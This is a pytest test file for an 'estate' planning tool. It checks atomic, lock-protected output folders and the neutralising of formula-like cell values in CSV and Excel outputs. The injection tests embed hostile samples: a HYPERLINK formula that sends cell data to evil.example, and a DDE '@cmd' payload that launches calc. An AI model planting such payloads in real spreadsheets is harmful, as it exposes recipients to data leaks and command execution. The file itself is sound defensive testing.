"""Outputs are all-or-nothing, refuse a second writer, list their class, and never carry a live formula."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from estate._errors import EstateError
from estate._io import MANIFEST, FolderBusy, OutputFolder, neutralise, write_csv
from estate.cli import main

from conftest import write_town

ESTATE = [sys.executable, "-m", "estate.cli"]


def _snapshot(folder: Path) -> dict[str, str]:
    """Every file of a folder (relative path) and its SHA-256."""
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _leftovers(parent: Path, name: str) -> list[str]:
    return sorted(p.name for p in parent.iterdir() if p.name.startswith(f".{name}."))


# --------------------------------------------------------------------------
# All or nothing
# --------------------------------------------------------------------------


def test_a_failed_write_leaves_the_old_folder_as_it_was(tmp_path):
    target = tmp_path / "run"
    with OutputFolder(target, command="test") as stage:
        (stage / "a.txt").write_text("old")
    before = _snapshot(target)
    with pytest.raises(RuntimeError):
        with OutputFolder(target, command="test") as stage:
            (stage / "a.txt").write_text("new")
            (stage / "b.txt").write_text("new")
            raise RuntimeError("the solver fell over")
    assert _snapshot(target) == before
    assert _leftovers(tmp_path, "run") == []
    manifest = json.loads((target / MANIFEST).read_text())
    assert manifest["files"] == {"a.txt": "shareable"}


def test_the_manifest_gives_every_file_its_class(tmp_path):
    with OutputFolder(tmp_path / "run", command="test") as stage:
        (stage / "plan.gpkg").write_text("x")
        (stage / "restricted" / "register.gpkg").write_text("y")
        (stage / "maps").mkdir()
        (stage / "maps" / "plan.html").write_text("z")
    files = json.loads((tmp_path / "run" / MANIFEST).read_text())["files"]
    assert files == {"maps/plan.html": "shareable", "plan.gpkg": "shareable", "restricted/register.gpkg": "restricted"}


def test_a_second_run_into_a_folder_in_use_is_refused(tmp_path, capsys):
    from conftest import REPO

    target = tmp_path / "reg"
    with OutputFolder(target, command="first"):
        with pytest.raises(FolderBusy, match="being written by another estate run"):
            with OutputFolder(target, command="second"):
                pass
        code = main(["register", "--sources", str(REPO / "data/assets/partners.toml"), "--out", str(target)])
        assert code == 2 and "being written by another estate run (pid" in capsys.readouterr().err
    assert not (tmp_path / ".reg.lock").exists()  # released and removed
    with OutputFolder(target, command="third") as stage:  # free again
        (stage / "x").write_text("1")


def test_a_kill_between_the_two_renames_of_the_fallback_swap_is_recovered(tmp_path, monkeypatch):
    import estate._io as io

    target = tmp_path / "run"
    with OutputFolder(target, command="old") as stage:
        (stage / "a.txt").write_text("old")
    old = _snapshot(target)
    monkeypatch.setattr(io, "_exchange", lambda a, b: False)  # a file system that cannot swap
    real_rename = os.rename
    calls = []

    def killed_after_the_first(src, dst):
        calls.append((src, dst))
        real_rename(src, dst)
        if len(calls) == 1:
            raise KeyboardInterrupt  # as if killed here: the old folder moved aside, the new one not in
    monkeypatch.setattr(io.os, "rename", killed_after_the_first)
    with pytest.raises(KeyboardInterrupt):
        with OutputFolder(target, command="new") as stage:
            (stage / "a.txt").write_text("new")
    monkeypatch.setattr(io.os, "rename", real_rename)
    assert not target.exists()
    with OutputFolder(target, command="next"):  # the next run puts the old complete folder back first
        assert _snapshot(target) == old
        left = _leftovers(tmp_path, "run")  # the lock and this run's own staging folder: nothing else
        assert left[0] == ".run.lock" and len(left) == 2 and left[1].startswith(f".run.partial-{os.getpid()}-")


def _plan(scenario: Path, out: Path, tmp_path: Path, until: str | None = None, sig: int | None = None) -> int:
    """Run `estate plan`; with ``until``, send ``sig`` once that progress line is printed. Returns the
    exit status (negative: killed by that signal)."""
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    proc = subprocess.Popen([*ESTATE, "plan", str(scenario), "--out", str(out), "--maps", str(tmp_path / "m")],
                            stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True, env=env)
    seen = []
    for text in proc.stderr:
        seen.append(text)
        if until is not None and until in text:
            proc.send_signal(sig)
            break
    proc.stderr.read()
    proc.stderr.close()
    code = proc.wait(timeout=300)
    assert until is None or any(until in t for t in seen), "".join(seen)
    return code


@pytest.fixture(scope="module")
def town_run(tmp_path_factory):
    """The town's scenario and a complete run of it: the "old set"."""
    d = tmp_path_factory.mktemp("killed")
    scenario = write_town(d)
    assert _plan(scenario, d / "done", d) == 0
    return scenario, d / "done"


def _old_or_new(code: int, out: Path, old: dict[str, str]) -> str:
    """After a run that was sent a signal: the old set untouched, or (if it finished first) the new complete set."""
    now = _snapshot(out)
    if code == 0:
        assert set(now) == set(old)
        return "new"
    assert now == old, "a mix of old and new files"
    return "old"


@pytest.mark.parametrize("line", ["solving:", "writing programme.xlsx", "drawing the maps"])
def test_a_killed_plan_leaves_the_old_set_or_the_new_set_never_a_mix(town_run, tmp_path, line):
    import shutil

    scenario, done = town_run
    out = tmp_path / "run"
    shutil.copytree(done, out)
    old = _snapshot(out)
    assert {"plan.gpkg", "programme.xlsx", "report.html", "maps/plan.html", "restricted/plan.gpkg"} <= set(old)

    code = _plan(scenario, out, tmp_path, line, signal.SIGKILL)
    assert code in (0, -signal.SIGKILL)
    _old_or_new(code, out, old)

    old = _snapshot(out)
    code = _plan(scenario, out, tmp_path, line, signal.SIGTERM)
    assert code in (0, 143)
    _old_or_new(code, out, old)
    if code == 143:  # stopped cleanly: it removed its partial folder and its lock
        assert _leftovers(tmp_path, "run") == []

    # The next run clears whatever a SIGKILL left beside the folder and writes the new complete set.
    assert _plan(scenario, out, tmp_path) == 0
    assert set(_snapshot(out)) == set(old)
    assert _leftovers(tmp_path, "run") == []


# --------------------------------------------------------------------------
# No formula injection
# --------------------------------------------------------------------------


@pytest.mark.parametrize("text, written", [("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"),
                                           ("+1+1", "'+1+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
                                           ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Town Hall", "Town Hall")])
def test_csv_cells_are_neutralised(tmp_path, text, written):
    import pandas as pd

    write_csv(pd.DataFrame({"name": [text], "value": [-5.0]}), tmp_path / "t.csv")
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == [written, "-5.0"]  # numbers stay numbers
    assert neutralise(text) == written


def test_names_that_look_like_formulas_stay_text_in_the_workbook_and_csvs(tmp_path):
    scenario = write_town(tmp_path)
    assets = tmp_path / "town" / "assets_C.csv"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assets.write_text(assets.read_text().replace("Civic Offices West", '"' + evil.replace('"', '""') + '"').replace(
        "North Offices", '"@cmd|\' /C calc\'!A0"'))
    out = tmp_path / "run"
    assert main(["plan", str(scenario), "--out", str(out), "--maps", str(tmp_path / "m")]) == 0
    book = load_workbook(out / "programme.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
             and ("evil.example" in c.value or "calc" in c.value)]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(out / "programme.xlsx") as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>HYPERLINK" not in xml and "evil.example" in xml  # stored as text, never as a formula
    for name in ("programme_disposals.csv", "programme_lines.csv"):
        with open(out / name, newline="", encoding="utf-8") as fh:
            values = [v for row in csv.reader(fh) for v in row if "evil.example" in v or "calc" in v]
        assert values and all(v.startswith("'") for v in values), name


def test_the_rejects_table_neutralises_raw_values(tmp_path):
    from conftest import partner_toml

    (tmp_path / "p.csv").write_text("Ref,Name,Type,Tenure,GIA,Cost,X,Y\nB1,=1+1,office,freehold,-5,100,340500,366300\n")
    (tmp_path / "partners.toml").write_text(partner_toml("P", "p.csv", columns={"name": "Name"}))
    assert main(["register", "--sources", str(tmp_path / "partners.toml"), "--out", str(tmp_path / "o")]) == 0
    with open(tmp_path / "o" / "restricted" / "rejects.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["value"] == "'-5.0" and rows[0]["column"] == "GIA"


def test_an_estate_error_names_the_folder_it_would_not_replace(tmp_path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "letter.txt").write_text("keep me")
    with pytest.raises(EstateError, match="holds files estate did not write"):
        with OutputFolder(tmp_path / "docs", command="x"):
            pass
    assert (tmp_path / "docs" / "letter.txt").read_text() == "keep me"


def test_only_a_folder_estate_wrote_and_nothing_else_was_added_to_is_replaced(tmp_path, capsys):
    from conftest import REPO

    sources = str(REPO / "data/assets/partners.toml")
    victim = tmp_path / "victim"
    (victim / "thesis").mkdir(parents=True)
    (victim / "summary.json").write_text('{"note": "my own"}')  # a name estate also writes
    (victim / "thesis" / "chapter1.docx").write_text("irreplaceable")
    assert main(["register", "--sources", sources, "--out", str(victim)]) == 2
    assert "thesis/chapter1.docx" in capsys.readouterr().err
    assert (victim / "thesis" / "chapter1.docx").read_text() == "irreplaceable"

    run = tmp_path / "run"
    with OutputFolder(run, command="test") as stage:
        (stage / "plan.gpkg").write_text("x")
    (run / "board-paper.docx").write_text("the chair's notes")  # added to a run folder
    with pytest.raises(EstateError, match=r"holds files estate did not write \(board-paper.docx\)"):
        with OutputFolder(run, command="again"):
            pass
    assert (run / "board-paper.docx").exists()
    with pytest.raises(EstateError, match="is inside the run folder"):
        with OutputFolder(run / "restricted", command="nested"):
            pass
    legacy = tmp_path / "legacy"
    (legacy / "maps").mkdir(parents=True)
    for name in ("plan.gpkg", "plan_summary.json", "programme.xlsx", "programme_lines.csv", "maps/plan.html"):
        (legacy / name).write_text("old")
    with OutputFolder(legacy, command="upgrade") as stage:  # an earlier version's outputs, nothing else
        (stage / "plan.gpkg").write_text("new")
    assert _snapshot(legacy).keys() == {"estate-manifest.json", "plan.gpkg"}
    # Names estate writes are not enough: a folder of one's own is never taken for an old run folder.
    mine = tmp_path / "mine"
    (mine / "maps" / "2024").mkdir(parents=True)
    (mine / "report.html").write_text("my report")
    (mine / "maps" / "2024" / "plan.html").write_text("my map")
    with pytest.raises(EstateError, match="holds files estate did not write"):
        with OutputFolder(mine, command="x"):
            pass
    for name in ("plan.gpkg", "plan_summary.json", "programme.xlsx"):  # even beside an old run's files
        (mine / name).write_text("old")
    with pytest.raises(EstateError, match=r"maps/2024/plan.html"):
        with OutputFolder(mine, command="x"):
            pass


def test_a_symlinked_output_folder_is_written_where_it_points(tmp_path):
    real = tmp_path / "real"
    with OutputFolder(real, command="first") as stage:
        (stage / "a.txt").write_text("old")
    (tmp_path / "link").symlink_to(real)
    with OutputFolder(tmp_path / "link", command="second") as stage:
        (stage / "a.txt").write_text("new")
    assert (tmp_path / "link").is_symlink() and (real / "a.txt").read_text() == "new"
    assert _leftovers(tmp_path, "real") == [] and _leftovers(tmp_path, "link") == []


def test_an_unusable_output_folder_fails_before_any_work(tmp_path, capsys):
    import stat

    from conftest import REPO

    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(stat.S_IRUSR | stat.S_IXUSR)
    try:
        if os.access(ro, os.W_OK):  # root writes anywhere: use a place no one can write instead
            target = Path("/proc/estate-run")
        else:
            target = ro / "run"
        assert main(["plan", str(REPO / "models/cheshire-warrington.toml"), "--out", str(target)]) == 2
        err = capsys.readouterr().err
        assert "cannot write in" in err and "Planning" not in err
    finally:
        ro.chmod(stat.S_IRWXU)
    assert main(["plan", str(REPO / "models/cheshire-warrington.toml"), "--out", str(tmp_path / "a\nb")]) == 2
    assert "control character" in capsys.readouterr().err


def test_a_file_saved_into_the_folder_during_the_run_is_never_deleted(tmp_path):
    target = tmp_path / "run"
    with OutputFolder(target, command="first") as stage:
        (stage / "a.txt").write_text("old")
    with pytest.raises(EstateError, match="files were added to it while the run was working"):
        with OutputFolder(target, command="second") as stage:
            (stage / "a.txt").write_text("new")
            (target / "board-paper.docx").write_text("saved by someone else meanwhile")
    assert (target / "board-paper.docx").exists() and (target / "a.txt").read_text() == "old"
    assert _leftovers(tmp_path, "run") == []


def test_a_run_inside_a_folder_another_run_is_writing_is_refused(tmp_path):
    with OutputFolder(tmp_path / "nest", command="outer"):
        with pytest.raises(FolderBusy, match="which another estate run is writing"):
            with OutputFolder(tmp_path / "nest" / "sub", command="inner"):
                pass


def test_a_manifest_cannot_point_outside_its_folder(tmp_path):
    target = tmp_path / "run"
    with OutputFolder(target, command="first") as stage:
        (stage / "a.txt").write_text("x")
    (tmp_path / "notes.txt").write_text("mine")
    manifest = json.loads((target / MANIFEST).read_text())
    manifest["files"]["../notes.txt"] = "shareable"
    (target / MANIFEST).write_text(json.dumps(manifest))
    with pytest.raises(EstateError, match="lists '../notes.txt', which is not a file of the folder"):
        with OutputFolder(tmp_path / "copy", command="finance", start_from=target):
            pass
    assert (tmp_path / "notes.txt").read_text() == "mine"


def test_maps_and_reports_never_overwrite_other_files(town_run, tmp_path, capsys):
    import shutil

    from estate._io import check_html_target

    _, done = town_run
    run = tmp_path / "run"
    shutil.copytree(done, run)
    check_html_target(run / "maps" / "plan.html")  # the run's own map: redrawn in place
    with pytest.raises(EstateError, match="maps and reports are HTML files"):
        check_html_target(run / "plan.gpkg")
    with pytest.raises(EstateError, match="inside the run folder"):
        check_html_target(run / "restricted" / "extra.html")
    (tmp_path / "mine.html").write_text("<html>my own page</html>")
    with pytest.raises(EstateError, match="is not a map or report estate wrote"):
        check_html_target(tmp_path / "mine.html")
    check_html_target(run / "maps" / "register.html")
    assert main(["report", str(run), "--out", str(run / "restricted" / "register.gpkg")]) == 2
    assert main(["map", "plan", str(run), "--out", str(tmp_path / "mine.html")]) == 2
    assert (tmp_path / "mine.html").read_text() == "<html>my own page</html>"
    assert main(["map", "plan", str(run), "--out", str(tmp_path / "copy.html")]) == 0
    assert main(["map", "plan", str(run), "--out", str(tmp_path / "copy.html")]) == 0  # its own: replaced
